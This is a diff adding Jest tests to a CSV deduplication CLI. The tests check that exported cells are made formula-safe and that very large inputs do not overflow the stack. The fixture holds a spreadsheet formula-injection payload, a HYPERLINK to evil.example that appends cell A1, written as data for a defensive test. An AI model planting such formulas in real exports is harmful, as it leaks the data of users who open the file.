@@ -3,6 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { REPO_ROOT as root, runDcc, type DccResult } from '../../helpers/run-dcc';
 import { parseCsv } from '../../../shared/read/csv';
+import { outputRows, widestRow } from '../../../bot/src/cli/commands/dedupe';
 import { makeProgram } from '../../../bot/src/cli/program';
 
 const fixture = join(root, 'test/fixtures/dedup/orgs.csv');
@@ -113,6 +114,37 @@ describe('dcc dedupe', () => {
     expect(result.stderr).toMatch(/dedupe: compare/);
     expect(readCsv(out)).toHaveLength(10051);
   }, 120000);
+
+  it('writes --out and --explain formula-safe, so a spreadsheet program never runs a cell', async () => {
+    const dir = workDir();
+    writeFileSync(join(dir, 'in.csv'), 'Name,City,Zip,Phone\n'
+      + '"=HYPERLINK(""http://evil.example/?""&A1,""Bread Co-op"")",Chicago,60602,312-555-0100\n'
+      + '"=HYPERLINK(""http://evil.example/?""&A1,""Bread Co-op"")",Chicago,60602,312-555-0100\n'
+      + '@SUM(1+1),Chicago,60603,+13125550101\n');
+    const out = join(dir, 'out.csv');
+    const explain = join(dir, 'explain.csv');
+    const write = jest.spyOn(process.stdout, 'write').mockImplementation(() => true);
+    try {
+      await makeProgram(true).parseAsync(['node', 'dcc', 'dedupe', join(dir, 'in.csv'), '--out', out, '--explain', explain]);
+    } finally {
+      write.mockRestore();
+    }
+    for (const file of [out, explain]) {
+      const cells = readCsv(file).flat();
+      expect(cells.filter((cell) => /^[=@]/.test(cell))).toEqual([]);
+    }
+    expect(readCsv(out)[1]?.[0]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Bread Co-op")');
+    expect(readCsv(out)[3]?.[3]).toBe('+13125550101');
+    expect(readCsv(explain).slice(1).flat().some((cell) => cell.startsWith('\'=HYPERLINK'))).toBe(true);
+  });
+
+  it('builds its output for inputs far past the size where spreading rows overflowed the stack', () => {
+    const rows = [['Name'], ...Array.from({ length: 200_000 }, (_, i) => (i === 199_999 ? ['x', 'wide', 'row'] : [`Co-op ${i}`]))];
+    expect(widestRow(rows)).toBe(3);
+    const output = outputRows(rows, 0, [], { bestMatchProbability: new Map(), clusterOf: new Map() });
+    expect(output).toHaveLength(200_001);
+    expect(output[0]).toEqual(['Name', '', '', 'cluster_id', 'match_probability']);
+  });
 
   it('runs inside the program, as other commands and tests call it', async () => {
     const out = join(workDir(), 'out.csv');
